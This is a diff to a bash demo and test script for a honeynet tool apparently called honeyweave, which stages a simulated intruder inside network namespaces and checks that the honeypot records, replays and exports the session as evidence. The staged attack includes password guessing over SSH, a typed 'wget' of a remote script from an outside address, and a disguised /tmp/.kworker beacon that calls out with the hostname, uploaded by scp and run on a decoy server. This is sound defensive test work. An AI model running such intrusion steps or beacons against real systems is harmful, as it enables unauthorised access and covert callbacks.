@@ -12,6 +12,8 @@ cd "$(dirname "$0")/.."
 topology=topologies/office.yaml
 gateway=192.0.2.1 attacker=192.0.2.100
 intranet=10.10.0.10 entered=10.10.0.23 cold=10.10.0.21 neighbor=10.10.0.26 outside=203.0.113.77
+# The portal is the server whose SSH and HTTPS are read, the mirror where a sensor sees what passes to the servers.
+portal=10.10.0.13 portal_name=portal.corp.example mirror=hw-servers
 sweep_size=65536
 
 if [ "$(id -u)" != 0 ]; then
@@ -36,7 +38,7 @@ dir=${DEMO_DIR:-/var/cache/honeyweave-demo}
 state=$dir/$name
 work=$(mktemp -d)
 ns_attacker=hwdemo-$$-attacker ns_wire=hwdemo-$$-wire
-weave='' follower=''
+weave='' follower='' sensor='' idle=''
 
 # Not `ip netns exec`, which hides the cgroups that containers need.
 from() { nsenter --net="/run/netns/$1" -- "${@:2}"; }
@@ -57,7 +59,9 @@ ended() {
 cleanup() {
     local code=$?
     trap '' INT TERM HUP
-    [ -z "$follower" ] || kill "$follower" 2>/dev/null || true
+    for pid in $follower $sensor $idle; do
+        kill "$pid" 2>/dev/null || true
+    done
     if [ -n "$weave" ]; then
         kill -TERM "$weave" 2>/dev/null || true
         ended "$weave" || kill -KILL "$weave" 2>/dev/null || true
@@ -119,6 +123,9 @@ until grep -q "^ready $name" "$work/ready"; do
     sleep 0.1
 done
 say "it is ready"
+nsenter --net="/run/netns/$ns_wire" -- tcpdump -i "$mirror" -Z root -n -U -w "$work/mirror.pcap" "host $portal" \
+    >/dev/null 2>"$work/tcpdump" </dev/null &
+sensor=$!
 
 # Not a pipeline: its process must be known, to end it.
 env HONEYWEAVE_NAME="$name" "$HONEYWEAVE" events ls -f --json --last 0 2>/dev/null </dev/null > >(show_events) &
@@ -196,8 +203,8 @@ expect "what the intruder opens is reachable from outside" test "$(cat "$work/li
 shell "$entered" 'nmap -n -sn 10.10.0.0/24' >"$work/inside" 2>&1 || true
 inside=$(grep -c '^Host is up' "$work/inside" || true)
 say "nmap -sn 10.10.0.0/24: $inside hosts: $(sed -n 's/^Nmap scan report for 10.10.0//p' "$work/inside" | paste -sd ' ')"
-# The router, three servers, eight shells (this one among them), the build server.
-expect "the sweep finds its 13 neighbors" test "$inside" = 13
+# The router, four servers, eight shells (this one among them), the build server.
+expect "the sweep finds its 14 neighbors" test "$inside" = 14
 shell "$entered" 'nmap -n -sS -Pn -p 21-23,80 -oG - 10.10.0.10-12' >"$work/nmap" 2>&1 || true
 say "nmap -sS: $(for host in 10.10.0.10 10.10.0.11 10.10.0.12; do printf '%s open %s; ' "$host" "$(open_ports "$host")"; done)"
 expect "the scan finds web, FTP and telnet" \
@@ -209,12 +216,45 @@ shell "$entered" "ping -c 2 -W 3 $outside" >"$work/outside" 2>&1 || true
 say "ping $outside (outside of the honeynet): $(grep -o '[0-9]* packets received' "$work/outside" || true)"
 expect "what leaves the honeynet is answered inside of it" grep -q '[12] packets received' "$work/outside"
 
+title "8. ssh, scp and curl to $portal_name, where somebody is in the middle"
+into=(-q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=15)
+# What is waited for, a tab, what is typed then.
+cat >"$work/typed" <<END
+password: 	123456
+password: 	toor
+:~# 	id; uname -a
+:~# 	cat backup.conf
+:~# 	wget -qO- http://$intranet/phones.txt
+:~# 	wget http://$outside/x.sh
+:~# 	exit
+END
+from "$ns_attacker" /usr/bin/python3 demo/typist.py "$work/typed" ssh "${into[@]}" "root@$portal" \
+    2>&1 | tee "$work/screen" | show_screen || true
+expect "the second password is the right one" grep -q 'uid=0(root)' "$work/screen"
+expect "from there the intranet's telephone list is read" grep -q 'it desk 117' "$work/screen"
+# shellcheck disable=SC2016
+printf '#!/bin/sh\nid\nwget -qO /dev/null http://%s/gate?host=$(hostname)\n' "$outside" >"$work/kworker"
+digest=$(sha256sum "$work/kworker" | cut -d ' ' -f 1)
+from "$ns_attacker" sshpass -p toor scp "${into[@]}" "$work/kworker" "root@$portal:/tmp/.kworker" </dev/null || true
+shell "$portal" 'chmod +x /tmp/.kworker; /tmp/.kworker; sha256sum /tmp/.kworker' >"$work/kworker.out" 2>&1 || true
+sed 's/^/    /' "$work/kworker.out"
+expect "what scp has brought runs there" grep -q "^$digest" "$work/kworker.out"
+from "$ns_attacker" curl -skv -m 10 -u 'backup:Winter2024!' -A Mozilla/5.0 --resolve "$portal_name:443:$portal" "https://$portal_name/" \
+    >"$work/page" 2>"$work/tls" || true
+sed -n 's/^\* \(SSL connection\|  *subject:\|  *issuer:\) */    \1 /p' "$work/tls"
+expect "the certificate is for its name" grep -q "subject: .*CN=$portal_name" "$work/tls"
+expect "within TLS there is the portal's page" grep -q '<h1>Portal</h1>' "$work/page"
+# Who is still there when everything ends.
+nsenter --net="/run/netns/$ns_attacker" -- sshpass -p toor ssh "${into[@]}" "root@$portal" 'echo here; sleep 600' \
+    >"$work/idle" 2>&1 </dev/null &
+idle=$!
+
 # ---------------------------------------------------------------- what is known about it
 
-title "8. What honeyweave knows"
+title "9. What honeyweave knows"
 # Events are written with their batch; the last ones need a moment to arrive.
 for _ in $(seq 20); do
-    [ "$(count container.live)" -lt 3 ] || [ "$(count_sessions)" -lt "$sweep_size" ] || break
+    [ "$(count container.live)" -lt 4 ] || [ "$(count_sessions)" -lt "$sweep_size" ] || [ ! -s "$work/idle" ] || break
     sleep 0.2
 done
 hw status --json >"$work/status" || echo '{}' >"$work/status"
@@ -230,15 +270,43 @@ capture_bytes=$(cat "${captures[@]}" /dev/null | wc -c)
 guarded=$(count guard.block)
 
 expect "every host that was met is a session" test "$sessions" -ge "$sweep_size"
-expect "three containers came to life, and none failed" test "$live:$failed" = 3:0
+expect "four containers came to life, and none failed" test "$live:$failed" = 4:0
 expect "no event was lost" test "$lost" = 0
-# By the system's own Python, for which the package is.
-valid=$(/usr/bin/python3 demo/valid.py docs/events.schema.json "$state"/events/events*.ndjson) && code=0 || code=$?
-expect "every record is as its JSON Schema says" test "$code:$([ "${valid:-0}" -ge "$records" ] && echo all)" = 0:all
-expect "jq reads every record" test "$(jq -n '[inputs | select(.v == 1)] | length' "$state"/events/events*.ndjson)" -ge "$records"
-expect "frames were captured, of the wire and of each container" test "${#captures[@]}" -ge 4
+expect "frames were captured, of the wire and of each container" test "${#captures[@]}" -ge 5
+kill "$sensor" 2>/dev/null || true
+wait "$sensor" 2>/dev/null || true
+sensor=
+seen() { tcpdump -r "$work/mirror.pcap" -n "$1" 2>/dev/null | wc -l; }
+to=$(seen "tcp and src host $attacker") back=$(seen "tcp and dst host $attacker")
+say "tcpdump at the mirror $mirror saw $to TCP segments for the portal and $back of it"
+expect "a sensor sees both directions" test "$to" -gt 50 -a "$back" -gt 50
+sent() { jq .event.sequence "$state/sinks/siem.json" | sort; }
+meant() { jq 'select((.event | test("^(ssh|shell|tls|container)[.]") or . == "service.login") and .event != "container.file") | .seq' \
+    "$state"/events/events*.ndjson | sort; }
+for _ in $(seq 50); do
+    meant >"$work/meant"
+    sent >"$work/sent"
+    ! cmp -s "$work/meant" "$work/sent" || break
+    sleep 0.1
+done
+say "the sink siem.json, in the form of ECS, has $(wc -l <"$work/sent") events: $(jq -r .event.action "$state/sinks/siem.json" |
+    sort | uniq -c | sort -rn | awk '{printf "%s%d %s", s, $1, $2; s = ", "}' | cut -c 1-90)…"
+expect "the sink has every event that it is for, once" cmp -s "$work/meant" "$work/sent"
 
-title "9. honeyweave down"
+title "10. honeyweave session ls, show and replay"
+hw session ls --attacker "$attacker" --host "$portal" --state-dir "$dir" | sed 's/^/    /'
+id=$(hw session ls --attacker "$attacker" --host "$portal" --state-dir "$dir" --json | jq -r '.[0].session')
+hw session show "$id" --state-dir "$dir" >"$work/shown" || true
+echo
+show_parts 'attempts to log in|commands without|requests|files that moved|commands in .*0001' <"$work/shown"
+expect "each password that was tried is there" grep -Eq ' 123456 +no$' "$work/shown"
+expect "so is what scp has brought" grep -q "upload .*/tmp/.kworker .*$digest" "$work/shown"
+expect "so is what was said within TLS" grep -q ' GET /$' "$work/shown"
+say "and twenty times as fast as it was:"
+hw session replay "$id" --state-dir "$dir" --speed 20 | tee "$work/replay" | show_screen || true
+expect "the replay shows what the attacker saw" grep -q 'password = Winter2024!' "$work/replay"
+
+title "11. honeyweave down"
 begin=$(now)
 hw down || true
 if ended "$weave"; then code=0; wait "$weave" || code=$?; weave=; else code=timeout; fi
@@ -247,6 +315,28 @@ expect "it ended by itself" test "$code" = 0
 expect "no interface is left on the wire but its own" \
     test "$(from "$ns_wire" ip -br link | awk '{print $1}' | sed 's/@.*//' | sort | paste -sd ' ')" = "lo wire0"
 expect "no mount and no process is left" nothing_of_it
+
+title "12. What is left: files, of which one goes to whoever investigates"
+hw session diff "$id" --state-dir "$dir" >"$work/diff" || true
+sed 's/^/    /' "$work/diff"
+expect "what the intruder has changed is known" grep -q "${digest:0:12}  /tmp/.kworker  .executable" "$work/diff"
+export HONEYWEAVE_PASSWORD=demo
+hw session export "$id" --state-dir "$dir" -o "$work/evidence.tar.zst.age" | sed "s|$work/|    |" || true
+hw session verify "$work/evidence.tar.zst.age" --state-dir "$dir" >"$work/verified" 2>&1 && code=0 || code=$?
+cut -c "1-${COLUMNS:-116}" "$work/verified" | sed 's/^/    /'
+expect "the bundle is as its signature says" test "$code" = 0
+records=$(cat "$state"/events/events*.ndjson | wc -l)
+# By the system's own Python, for which the package is.
+valid=$(/usr/bin/python3 demo/valid.py docs/events.schema.json "$state"/events/events*.ndjson) && code=0 || code=$?
+expect "every record, from the first to the last, is as its JSON Schema says" test "$code:$valid" = "0:$records"
+expect "jq reads every record" test "$(jq -n '[inputs | select(.v == 1)] | length' "$state"/events/events*.ndjson)" = "$records"
+lacking=$(for event in session.start icmp.echo tcp.open tcp.close service.request service.login tls.hello container.start container.live \
+    container.exec container.file container.login container.destroyed outward.reflect ssh.hello ssh.login ssh.shell ssh.command \
+    ssh.file ssh.close shell.command evidence.taken; do
+    [ "$(count "$event")" != 0 ] || echo "$event"
+done)
+cut_off=$(jq -n '[inputs | select(.event == "tcp.close" and .reason == "honeynet-ended")] | length' "$state"/events/events*.ndjson)
+expect "among them are those of the middle and of the end${lacking:+, but no $lacking}" test -z "$lacking" -a "$cut_off" -gt 0
 
 title "Summary"
 row "hosts that answered the sweep" "$(thousands "$answered") of $(thousands "$sweep_size"), in $(seconds "$sweep_us") s ($(thousands $((sweep_size * 1000000 / sweep_us))) a second)"
